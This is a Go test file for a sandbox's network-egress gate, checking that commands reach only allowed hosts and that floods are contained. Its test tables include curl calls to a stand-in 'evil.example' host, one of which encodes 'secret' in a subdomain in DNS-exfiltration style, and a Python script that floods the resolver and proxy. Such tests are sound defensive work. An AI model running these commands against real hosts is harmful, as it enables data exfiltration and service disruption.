package process

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"textskill/skill/internal/egress"
	"textskill/testdata/needs"
)

// gated returns a Runner whose commands have a network of their own and reach hosts.
func gated(t *testing.T, rules egress.Rules, hosts map[string]string) *Runner {
	t.Helper()
	x := newRunner(t, t.TempDir(), Config{Helper: self(t), Egress: rules, hosts: hosts})
	held := x.Fence()
	needs.That(t, held.Alone, "network namespaces", "let users make them")
	return x
}

// origin serves its name and what it was asked at a port of this machine.
func origin(t *testing.T) (port int) {
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprintln(w, r.Host, r.URL.Path) }))
	t.Cleanup(s.Close)
	return s.Listener.Addr().(*net.TCPAddr).Port
}

// hostsAt has hosts be a port of this machine.
func hostsAt(port int, hosts ...string) map[string]string {
	at := map[string]string{}
	for _, host := range hosts {
		at[fmt.Sprintf("%s:%d", host, port)] = fmt.Sprint("127.0.0.1:", port)
	}
	return at
}

// Programs that ask for another machine are refused at once, and the answer names the host.
func TestHostsAreRefused(t *testing.T) {
	x := gated(t, egress.Rules{}, nil)
	needs.Program(t, "curl")
	for _, tt := range []struct{ program, script, refused string }{
		{"curl", "curl -sS https://example.org/", "example.org"},
		{"getent", "getent hosts a.example.org b.example.org", "a.example.org b.example.org"},
		{"curl", "curl -sS -x $npm_config_proxy https://registry.example/x", "registry.example:443"},
		{"curl", "curl -sSf -x $npm_config_proxy http://registry.example:8080/x", "registry.example:8080"},
		{"npm", "npm install --registry https://registry.example/ left-pad", "registry.example:443"},
		{"npx", "npx --registry https://registry.example/ left-pad", "registry.example:443"},
		{"pip", "python3 -m pip download --index-url https://index.example/simple six", "index.example:443"},
		{"git", "git ls-remote https://git.example/x", "git.example"},
		{"cargo", "mkdir -p c/src && cd c && touch src/lib.rs && printf '[package]\\nname=\"a\"\\nversion=\"0.1.0\"\\n[dependencies]\\nx=\"1\"\\n' > Cargo.toml && cargo fetch", "index.crates.io:443"},
		{"curl", "curl -sS http://203.0.113.9/", ""},
	} {
		t.Run(tt.program, func(t *testing.T) {
			need(t, x, tt.program)
			begin := time.Now()
			got := mustExec(t, x, sh(tt.script))
			if !got.Failed() || strings.Join(got.Refused, " ") != tt.refused {
				t.Errorf("%s: refused %q, want %s\n%s%s", tt.script, got.Refused, tt.refused, got.Stdout,
					got.Stderr)
			}
			t.Logf("%s: %v", tt.script, time.Since(begin))
		})
	}
}

// Where no host may be reached, variables lead package managers to a refusal, in any program but that of a
// caller who promises its environment. The variables of the caller are the last ones.
func TestEnvironmentOfNoHosts(t *testing.T) {
	x := gated(t, egress.Rules{}, nil)
	needs.Program(t, "env")
	for _, exact := range []bool{false, true, false} {
		got := mustExec(t, x, Command{Name: "env", Env: []string{"A=1", "PIP_RETRIES=9", "B=2"}, ExactEnv: exact})
		out, end := string(got.Stdout), "\nA=1\nB=2\n"
		if exact {
			end = "\nA=1\nPIP_RETRIES=9\nB=2\n"
		}
		if strings.Contains(out, "npm_config_proxy=") == exact || !strings.HasSuffix(out, end) {
			t.Errorf("exact %v: %s", exact, out)
		}
	}
}

// A host that is allowed is reached at its port, by programs that use the proxy and by others.
// Nothing else is.
func TestHostsAreReached(t *testing.T) {
	needs.Program(t, "curl")
	port := origin(t)
	at := func(host string) string { return fmt.Sprintf("%s:%d", host, port) }
	x := gated(t, egress.Rules{Allow: []string{at("good.example"), "*." + at("wild.example"),
		"good.example:1"}, Deny: []string{"no.wild.example"}},
		hostsAt(port, "good.example", "evil.example", "a.wild.example", "wild.example", "no.wild.example"))
	for script, want := range map[string]string{
		"curl -sS http://" + at("good.example") + "/x":                       at("good.example") + " /x",
		"curl -sSp http://" + at("good.example") + "/x":                      at("good.example") + " /x",
		"curl -sS -x $ALL_PROXY http://" + at("good.example") + "/x":         at("good.example") + " /x",
		"curl -sS --noproxy '*' http://" + at("good.example") + "/x":         at("good.example") + " /x",
		"curl -sS http://" + at("a.wild.example") + "/x":                     at("a.wild.example") + " /x",
		"curl -sS -o /dev/null -w %{http_code} http://" + at("wild.example"): "403",
		"curl -sS -o /dev/null -w %{http_code} http://" + at("evil.example"): "403",
		"curl -sS -o /dev/null -w %{http_code} http://good.example":          "403",
		"curl -sS -o /dev/null -w %{http_code} http://" + at("127.0.0.1"):    "000",
		"curl -sS --noproxy '*' http://" + at("evil.example"):                "",
		"curl -sS --noproxy '' -x $HTTP_PROXY http://" +
			at("127.0.0.1"): "hosts are reached by their name only",
		"curl -sS -x $HTTP_PROXY http://" + at("no.wild.example"):             "--deny-domain denies it",
		"curl -sSp http://" + at("evil.example"):                              "",
		"curl -sSp -x $HTTP_PROXY http://good.example:1/":                     "",
		"curl -sS --noproxy '*' --resolve good.example:80:127.1.0.1 http://x": "",
	} {
		got := mustExec(t, x, sh(script))
		said := strings.TrimSpace(string(got.Stdout))
		if want == "" && (said != "" || !got.Failed()) || !strings.Contains(said, want) {
			t.Errorf("%s: %s%s", script, got.Stdout, got.Stderr)
		}
	}
	got := mustExec(t, x, sh("curl -sS http://"+at("evil.example")+
		"; curl -sS --noproxy '*' http://c2VjcmV0.evil.example"))
	if want := []string{at("evil.example"), "c2vjcmv0.evil.example"}; !slices.Equal(got.Refused, want) {
		t.Errorf("refused %q, want %q", got.Refused, want)
	}
	for _, rule := range []string{"a b", "*.org", "10.0.0.1", "x:0", "https://example.org", "a..b", ""} {
		if _, err := runnerOn(t.TempDir(), Config{Egress: egress.Rules{Allow: []string{rule}}}); err == nil {
			t.Errorf("%q is taken for a host", rule)
		}
	}
}

// Commands of programs with different hosts have different networks.
func TestNetworksAreOfEqualHosts(t *testing.T) {
	needs.Program(t, "sleep", "readlink")
	x := gated(t, egress.Rules{}, nil)
	y, err := runnerOn(x.ws.Dir(),
		Config{Helper: self(t), Egress: egress.Rules{Allow: []string{"good.example"}}})
	if err != nil {
		t.Fatal(err)
	}
	defer y.ws.Close()
	defer y.Close()
	s, err := x.StartServer(t.Context(), "",
		ServerCommand{Command: "sleep 100", Port: needs.Port(t), Wait: time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	defer x.StopServer(ServerName{ID: s.ID})
	show := sh("readlink /proc/self/ns/net")
	own, other := mustExec(t, x, show), mustExec(t, y, show)
	if string(own.Stdout) == string(other.Stdout) || own.Failed() || other.Failed() {
		t.Errorf("%s and %s", own.Stdout, other.Stdout)
	}
}

// Many names, connections and broken questions do not stop the next command.
func TestFloodsAreBounded(t *testing.T) {
	port := origin(t)
	x := gated(t, egress.Rules{Allow: []string{fmt.Sprint("good.example:", port)}},
		hostsAt(port, "good.example"))
	need(t, x, "python3", "curl")
	script := `import os, socket, struct, sys
server = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect((server, 53))
for i in range(2000):
    q = struct.pack('>HHHHHH', i, 0x100, 1, 0, 0, 0) + b'\x06x%05d' % i + b'\x04evil\x07example\x00' + struct.pack('>HH', 1, 1)
    s.send(q); s.recv(512)
for junk in b'', b'x', b'\0' * 12, b'\xff' * 500, q[:20]: s.send(junk)
s.send(q); assert s.recv(512)
proxy = os.environ['https_proxy'].rsplit(':', 1)
some = []
for i in range(400):
    c = socket.create_connection(('127.0.0.1', int(proxy[1]))); some.append(c)
    c.send(b'CONNECT good.example:%s HTTP/1.1\r\nHost: x\r\n\r\n' % sys.argv[1].encode())
print(some[0].recv(12))
`
	got := mustExec(t, x, Command{Name: "python3", Args: []string{"-c", script, fmt.Sprint(port)}})
	if got.Failed() && !strings.Contains(string(got.Stderr), "nameserver") || len(got.Refused) > 32 {
		t.Errorf("%d are refused: %s%s", len(got.Refused), got.Stdout, got.Stderr)
	}
	got = mustExec(t, x, sh(fmt.Sprintf("curl -sS -m 9 http://good.example:%d/x", port)))
	if got.Failed() {
		t.Errorf("afterwards: %s%s", got.Stdout, got.Stderr)
	}
}

// A port of this machine that is named appears in the network of commands, also in that of two
// programs at once; no other port does.
func TestLocalPortsAreReached(t *testing.T) {
	needs.Program(t, "curl", "sleep")
	port, other := origin(t), origin(t)
	dir := t.TempDir()
	x := newRunner(t, dir, Config{Helper: self(t), Local: []int{port}})
	needs.That(t, x.Fence().Alone, "network namespaces", "let users make them")
	s, err := x.StartServer(t.Context(), "",
		ServerCommand{Command: fmt.Sprintf("curl -sS http://127.0.0.1:%d/of-a-server; sleep 100", port)})
	if err != nil {
		t.Fatal(err)
	}
	defer x.StopServer(ServerName{ID: s.ID})
	for _, host := range []string{"127.0.0.1", "[::1]", "localhost"} {
		got := mustExec(t, x, sh(fmt.Sprintf("curl -sS http://%s:%d/x; curl -sS http://%[1]s:%[3]d/x",
			host, port, other)))
		if want := fmt.Sprintf("%s:%d /x\n", host, port); string(got.Stdout) != want || !got.Failed() {
			t.Errorf("%s: %s%s", host, got.Stdout, got.Stderr)
		}
	}
	log, err := x.ServerLog(t.Context(), ServerName{ID: s.ID}, 0)
	if err != nil || !strings.Contains(string(log.Text), "/of-a-server") {
		t.Errorf("the server has read %s, %v", log.Text, err)
	}
	if c, err := x.DialLocal(port); err != nil {
		t.Error(err)
	} else {
		c.Close()
	}
	want := fmt.Sprintf("nothing listens on port %d of the localhost of commands; --allow-local %[1]d opens that port of this machine", other)
	if _, err := x.DialLocal(other); err == nil || err.Error() != want {
		t.Errorf("%v, want %s", err, want)
	}
}

// A Runner within some domains reaches no other host, whatever else is allowed. A host that a
// person allows meanwhile is reached at once, also by programs that look it up.
func TestHostsAreNarrowedAndAdded(t *testing.T) {
	needs.Program(t, "curl")
	port := origin(t)
	hosts := hostsAt(port, "good.example", "a.good.example", "other.example", "late.example")
	get := func(x *Runner, host string) (string, []string) {
		got := mustExec(t, x, sh(fmt.Sprintf("curl -sS http://%s:%d/x; curl -sS --noproxy '*' http://%[1]s:%[2]d/y", host, port)))
		return string(got.Stdout), got.Refused
	}
	var allow []string
	for at := range hosts {
		if !strings.HasPrefix(at, "late") {
			allow = append(allow, at)
		}
	}
	x := gated(t, egress.Rules{Allow: allow}, hosts)
	y := x.Within([]string{"good.example", "not a host"})
	for host, reached := range map[string]bool{"good.example": true, "a.good.example": true,
		"other.example": false, "late.example": false} {
		if got, refused := get(y, host); strings.Contains(got, "/x\n") != reached ||
			strings.Contains(got, "/y\n") != reached || len(refused) > 0 == reached {
			t.Errorf("within: %s: %s, refused %q", host, got, refused)
		}
		if host == "late.example" {
			continue
		}
		if got, refused := get(x, host); !strings.Contains(got, "/y\n") || len(refused) > 0 {
			t.Errorf("%s: %s, refused %q", host, got, refused)
		}
	}
	if err := x.Policy().Allow(fmt.Sprint("late.example:", port)); err != nil {
		t.Fatal(err)
	}
	if got, refused := get(x, "late.example"); !strings.Contains(got, "/x\n") ||
		!strings.Contains(got, "/y\n") || len(refused) > 0 {
		t.Errorf("allowed: %s, refused %q", got, refused)
	}
	if err := x.Policy().Allow("10.0.0.1"); err == nil {
		t.Error("an address is allowed")
	}
}
